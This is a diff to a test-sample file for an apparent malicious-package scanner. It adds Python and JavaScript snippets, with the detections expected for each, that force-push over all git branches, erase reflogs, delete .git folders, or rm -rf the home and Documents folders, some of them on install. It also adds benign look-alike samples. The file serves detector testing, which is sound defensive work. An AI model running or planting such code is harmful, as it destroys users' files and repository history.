@@ -38,6 +38,41 @@ export const samples: Samples = {
       expected: [at('repositories', 'high', 'index.js', 5)],
     },
     {
+      name: 'Python: the branches of a repository, by a wrapper of git in a thread',
+      files: wheel(
+        "import subprocess, threading\ndef git(*words):\n    return subprocess.run(('git', *words), capture_output=True, text=True).stdout\ndef sweep():\n    git('checkout', '--orphan', 'clean')\n    for name in git('branch', '--list').split():\n        git('push', '-q', '--force', 'origin', f'clean:{name}')\n    git('reflog', 'expire', '--expire=now', '--all')\nthreading.Thread(target=sweep).start()\n",
+      ),
+      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a past that nothing brings back',
+      files: wheel(
+        "import os\nos.system('git -C .. update-ref -d HEAD && git reflog expire --expire=now --all && git gc --prune=now')\n",
+      ),
+      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'Python: the repository of the folder in which a program was started',
+      files: wheel(
+        "import os, shutil\nshutil.rmtree(os.path.join(os.getcwd(), '.git'), ignore_errors=True)\n",
+      ),
+      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'Python: repositories that a pattern finds',
+      files: wheel(
+        "import glob, subprocess\nfor found in glob.glob('../**/.git', recursive=True):\n    subprocess.run(['rm', '-rf', found])\n",
+      ),
+      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'the tags and branches of a project, when a package is installed',
+      files: installed(
+        `const { execFileSync } = require('child_process');\nconst git = (...words) => execFileSync('git', words, { cwd: process.env.INIT_CWD });\ngit('push', '--mirror', '--force', 'origin');\n`,
+      ),
+      expected: [at('repositories', 'high', 'setup.js', 2)],
+    },
+    {
       name: 'a note on the desktop',
       files: imported(
         `const fs = require('fs'), os = require('os'), path = require('path');\nfs.writeFileSync(path.join(os.homedir(), 'Desktop', 'READ.txt'), 'Stop it.');\n`,
@@ -50,6 +85,41 @@ export const samples: Samples = {
         'import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home()):\n        for name in names:\n            os.remove(os.path.join(at, name))\n',
       ),
       expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 6, severity: 'high' }],
+    },
+    {
+      name: 'Python: what an object was told to sweep, by the entries of that folder',
+      files: wheel(
+        "import os, shutil\nclass Sweeper:\n    def __init__(self, root, group):\n        self.root, self.group = root, group\n    def run(self):\n        for entry in os.scandir(self.root):\n            shutil.rmtree(entry.path)\nSweeper(os.path.expanduser('~/Documents'), 'all').run()\n",
+      ),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 7, severity: 'high' }],
+    },
+    {
+      name: 'Python: a rule that a table holds by its name',
+      files: wheel(
+        "import os, shutil\nRULES = {}\ndef rule(function):\n    RULES[function.__name__] = function\n    return function\n@rule\ndef everything(root):\n    for name in os.listdir(root):\n        shutil.rmtree(os.path.join(root, name))\nRULES['everything'](os.environ['HOME'])\n",
+      ),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 9, severity: 'high' }],
+    },
+    {
+      name: 'Python: what a pattern finds among the documents',
+      files: wheel(
+        "import glob, os\nfor path in glob.glob(os.path.expanduser('~/Documents') + '/*'):\n    os.remove(path)\n",
+      ),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'critical' }],
+    },
+    {
+      name: 'Python: all that the home folder lists, in one call',
+      files: wheel(
+        'import shutil\nfrom pathlib import Path\nlist(map(shutil.rmtree, Path.home().iterdir()))\n',
+      ),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: the home folder, entry by entry, by a command',
+      files: wheel(
+        "import os, subprocess\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n    subprocess.run(['rm', '-rf', os.path.join(home, name)])\n",
+      ),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 4, severity: 'high' }],
     },
     {
       name: 'Python: a function that writes over what is in the home folder',
@@ -142,6 +212,36 @@ export const samples: Samples = {
       'Python: old files of its own cache, one by one',
       wheel(
         "import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home() / '.cache' / 'own'):\n        for name in names:\n            os.remove(os.path.join(at, name))\n",
+      ),
+    ),
+    quiet(
+      'Python: a hook for each repository below the home folder, when asked for',
+      wheel(
+        "import os\ndef keep():\n    for at, names, _ in os.walk(os.path.expanduser('~')):\n        if '.git' in names:\n            with open(os.path.join(at, '.pre-commit-config.yaml'), 'w') as out:\n                out.write('repos: []')\n",
+      ),
+    ),
+    quiet(
+      'Python: what building left in a folder that somebody names, and old logs of its own',
+      wheel(
+        "import glob, os, shutil, sys\ndef clean(root):\n    for name in os.listdir(root):\n        if name.endswith('.pyc'):\n            os.remove(os.path.join(root, name))\n    for path in glob.glob(os.path.expanduser('~/.own/logs/*.log')):\n        os.remove(path)\ndef main():\n    clean(sys.argv[1])\n",
+      ),
+    ),
+    quiet(
+      'Python: branches that are merged, and pages that are published, when asked for',
+      wheel(
+        "import subprocess, sys\ndef git(*words):\n    return subprocess.run(['git', *words], capture_output=True, text=True).stdout\ndef sweep(remote):\n    for name in git('branch', '--merged', 'main').split():\n        git('branch', '-D', name)\n        git('push', '-q', '--delete', remote, name)\ndef publish():\n    git('checkout', '--orphan', 'gh-pages')\n    git('push', '--force', 'origin', 'gh-pages')\ndef main():\n    sweep(sys.argv[1])\nif __name__ == '__main__':\n    main()\n",
+      ),
+    ),
+    quiet(
+      'Python: what git is asked when a module is loaded, and a clone that loses its past in a function',
+      wheel(
+        "import shutil, subprocess\nVERSION = subprocess.run(['git', 'describe', '--tags'], capture_output=True).stdout\nsubprocess.run(['git', 'fetch', '--prune', '--force'])\ndef template(url, to):\n    subprocess.run(['git', 'clone', url, to])\n    shutil.rmtree(to + '/.git')\n",
+      ),
+    ),
+    quiet(
+      'pages that a program publishes',
+      imported(
+        `const { execSync } = require('child_process');\nexecSync('git checkout --orphan gh-pages');\nexports.publish = () => execSync('git push --force origin gh-pages');\n`,
       ),
     ),
     quiet(
